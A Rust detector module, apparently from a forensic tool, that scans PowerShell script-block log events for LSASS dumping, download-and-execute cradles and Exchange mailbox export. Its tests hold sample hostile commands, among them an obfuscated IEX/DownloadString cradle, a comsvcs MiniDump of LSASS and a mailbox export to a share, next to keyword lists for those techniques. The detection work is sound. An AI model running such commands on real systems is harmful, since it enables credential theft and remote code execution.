//! `Microsoft-Windows-PowerShell%4Operational.evtx`, event 4104 (script block logging): the
//! code PowerShell compiled, as it ran (after the `-EncodedCommand` and `iex` layers are
//! peeled off).
//!
//! What fires (`powershell_script_block`), matched on the block's text with backticks and
//! `'…'+'…'` string joins removed, ignoring case:
//!
//! - dumps LSASS memory: `MiniDumpWriteDump` together with `lsass`, `comsvcs` with
//!   `MiniDump`, `Out-Minidump`, `Invoke-Mimikatz`, `sekurlsa`: **critical**;
//! - downloads and runs code: `IEX`/`Invoke-Expression` together with `Net.WebClient`,
//!   `DownloadString`, `DownloadData`, `Invoke-WebRequest`/`iwr`, `Invoke-RestMethod`/`irm`,
//!   `Start-BitsTransfer` or `HttpClient`: **high**;
//! - loads the Exchange snap-in (`Add-PSSnapin Microsoft.Exchange…`): **medium**, **high** when
//!   the same block exports or searches mailboxes (`New-MailboxExportRequest`,
//!   `Search-Mailbox`, `Export-Mailbox`).
//!
//! A block split across several records (`MessageNumber` of `MessageTotal`) is matched record
//! by record: a pattern whose two halves fall in different records is not seen.

use serde_json::Value;

use super::{EventData, Hit, System};
use crate::exchange::text::truncate;
use crate::finding::detail::{Detail, ScriptBlockDetail};
use crate::finding::{FindingKind, Severity};

/// The text with backticks removed and `'a'+'b'` / `"a" + "b"` joins closed up, lowercased.
fn normalise(text: &str) -> String {
    let s: String = text.chars().filter(|&c| c != '`').collect();
    let chars: Vec<char> = s.chars().collect();
    let mut out = String::with_capacity(s.len());
    let mut i = 0;
    while i < chars.len() {
        let c = chars[i];
        if c == '\'' || c == '"' {
            // quote, spaces, '+', spaces, quote: a join; skip it.
            let mut j = i + 1;
            while j < chars.len() && chars[j] == ' ' {
                j += 1;
            }
            if j < chars.len() && chars[j] == '+' {
                j += 1;
                while j < chars.len() && chars[j] == ' ' {
                    j += 1;
                }
                if j < chars.len() && (chars[j] == '\'' || chars[j] == '"') {
                    i = j + 1;
                    continue;
                }
            }
        }
        out.extend(c.to_lowercase());
        i += 1;
    }
    out
}

/// `word` in `hay` with no letter, digit, `-` or `_` on either side.
fn has_word(hay: &str, word: &str) -> bool {
    let ident = |c: Option<char>| c.is_some_and(|c| c.is_alphanumeric() || c == '-' || c == '_');
    let mut from = 0;
    while let Some(i) = hay.get(from..).and_then(|h| h.find(word)) {
        let at = from + i;
        let before = hay.get(..at).and_then(|h| h.chars().next_back());
        let after = hay.get(at + word.len()..).and_then(|h| h.chars().next());
        if !ident(before) && !ident(after) {
            return true;
        }
        from = at + word.len();
    }
    false
}

/// What the block does: (severity, reasons, the needle to excerpt around).
fn judge(text: &str) -> Option<(Severity, Vec<String>, &'static str)> {
    let n = normalise(text);
    let mut out: Option<(Severity, Vec<String>, &'static str)> = None;
    let mut add = |sev: Severity, why: &str, needle: &'static str| match &mut out {
        Some((s, r, _)) => {
            *s = (*s).max(sev);
            r.push(why.to_string());
        }
        None => out = Some((sev, vec![why.to_string()], needle)),
    };
    let dump = if n.contains("minidumpwritedump") && n.contains("lsass") {
        Some("minidumpwritedump")
    } else if n.contains("comsvcs") && n.contains("minidump") {
        Some("comsvcs")
    } else {
        ["out-minidump", "invoke-mimikatz", "sekurlsa"]
            .into_iter()
            .find(|w| n.contains(w))
    };
    if let Some(needle) = dump {
        add(Severity::Critical, "dumps LSASS memory", needle);
    }
    let exec = has_word(&n, "iex") || n.contains("invoke-expression");
    let download = [
        "net.webclient",
        "downloadstring",
        "downloaddata",
        "invoke-webrequest",
        "invoke-restmethod",
        "start-bitstransfer",
        "net.http.httpclient",
    ]
    .into_iter()
    .find(|w| n.contains(w))
    .or_else(|| ["iwr", "irm"].into_iter().find(|w| has_word(&n, w)));
    if let (true, Some(d)) = (exec, download) {
        add(Severity::High, "downloads and runs code", d);
    }
    if n.contains("add-pssnapin") && n.contains("microsoft.exchange") {
        let mailboxes = [
            "new-mailboxexportrequest",
            "search-mailbox",
            "export-mailbox",
        ]
        .iter()
        .any(|w| n.contains(w));
        if mailboxes {
            add(
                Severity::High,
                "loads the Exchange snap-in and exports or searches mailboxes",
                "add-pssnapin",
            );
        } else {
            add(
                Severity::Medium,
                "loads the Exchange snap-in",
                "add-pssnapin",
            );
        }
    }
    out
}

/// About 1 KiB of `text` around the first case-insensitive `needle` (the start of the text
/// when the needle is only in the normalised form).
fn excerpt(text: &str, needle: &str) -> String {
    let lower = text.to_ascii_lowercase();
    let at = lower.find(needle).unwrap_or(0);
    let mut start = at.saturating_sub(256);
    while start > 0 && !text.is_char_boundary(start) {
        start -= 1;
    }
    truncate(text.get(start..).unwrap_or(text), 1024)
}

/// The traces in one PowerShell Operational record.
pub(crate) fn check(record: &Value) -> Vec<Hit> {
    let sys = System::of(record);
    if sys.event_id() != Some(4104) {
        return Vec::new();
    }
    let provider = sys.provider().unwrap_or_default();
    if !provider.eq_ignore_ascii_case("Microsoft-Windows-PowerShell") {
        return Vec::new();
    }
    let d = EventData::of(record);
    let Some(text) = d.get("ScriptBlockText") else {
        return Vec::new();
    };
    let Some((severity, reasons, needle)) = judge(&text) else {
        return Vec::new();
    };
    let id = d.value("ScriptBlockId");
    let part = match (d.value("MessageNumber"), d.value("MessageTotal")) {
        (Some(n), Some(t)) => Some(format!("{n}/{t}")),
        _ => None,
    };
    let path = d.value("Path");
    let excerpt = excerpt(&text, needle);
    let title = format!(
        "PowerShell script block {}{}",
        reasons.join("; "),
        path.as_deref()
            .map(|p| format!(" ({p})"))
            .unwrap_or_default()
    );
    let key = match (&id, &part) {
        (Some(i), p) => format!("{i}\u{1}{}", p.as_deref().unwrap_or("")),
        (None, _) => truncate(&text, 512),
    };
    vec![Hit {
        key,
        kind: FindingKind::PowershellScriptBlock,
        severity,
        cve: Vec::new(),
        title,
        quote: text,
        detail: Box::new(move |event| {
            Detail::ScriptBlock(ScriptBlockDetail {
                event,
                script_block_id: id,
                part,
                path,
                reasons,
                excerpt,
                group: None,
            })
        }),
    }]
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::json;

    fn block(text: &str) -> Value {
        json!({"Event": {"System": {
            "Provider": {"#attributes": {"Name": "Microsoft-Windows-PowerShell"}}, "EventID": 4104},
            "EventData": {"MessageNumber": 1, "MessageTotal": 1, "ScriptBlockText": text,
                "ScriptBlockId": "2b4c8e0a-0000-0000-0000-000000000000", "Path": ""}}})
    }

    fn sev(text: &str) -> Option<Severity> {
        check(&block(text)).first().map(|h| h.severity)
    }

    #[test]
    fn what_fires() {
        assert_eq!(
            sev("Add-PSSnapin Microsoft.Exchange.Management.PowerShell.SnapIn; Get-Mailbox"),
            Some(Severity::Medium)
        );
        assert_eq!(
            sev("add-pssnapin microsoft.exchange.management.powershell.snapin;New-MailboxExportRequest -Mailbox ceo -FilePath \\\\x\\c$\\a.pst"),
            Some(Severity::High)
        );
        assert_eq!(
            sev("IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a.ps1')"),
            Some(Severity::High)
        );
        assert_eq!(
            sev("i`ex (n`ew-object ('Net.'+'WebClient')).('Download'+'String')('http://x/p')"),
            Some(Severity::High)
        );
        assert_eq!(sev("iwr http://x/a.ps1 | iex"), Some(Severity::High));
        assert_eq!(
            sev("rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 612 C:\\temp\\l.dmp full"),
            Some(Severity::Critical)
        );
    }

    #[test]
    fn benign_blocks_do_not_fire() {
        assert_eq!(
            sev("Get-Process lsass | Select-Object Id, WorkingSet"),
            None
        );
        assert_eq!(
            sev("Invoke-WebRequest -Uri https://aka.ms/x -OutFile C:\\temp\\x.msi"),
            None
        );
        assert_eq!(
            sev("$index = 3; Get-ChildItem | Where-Object Length -gt 1kb"),
            None
        );
        assert_eq!(sev("prompt"), None);
        let mut other = block("iex (New-Object Net.WebClient).DownloadString('http://x')");
        other["Event"]["System"]["EventID"] = json!(4103);
        assert!(check(&other).is_empty());
    }
}
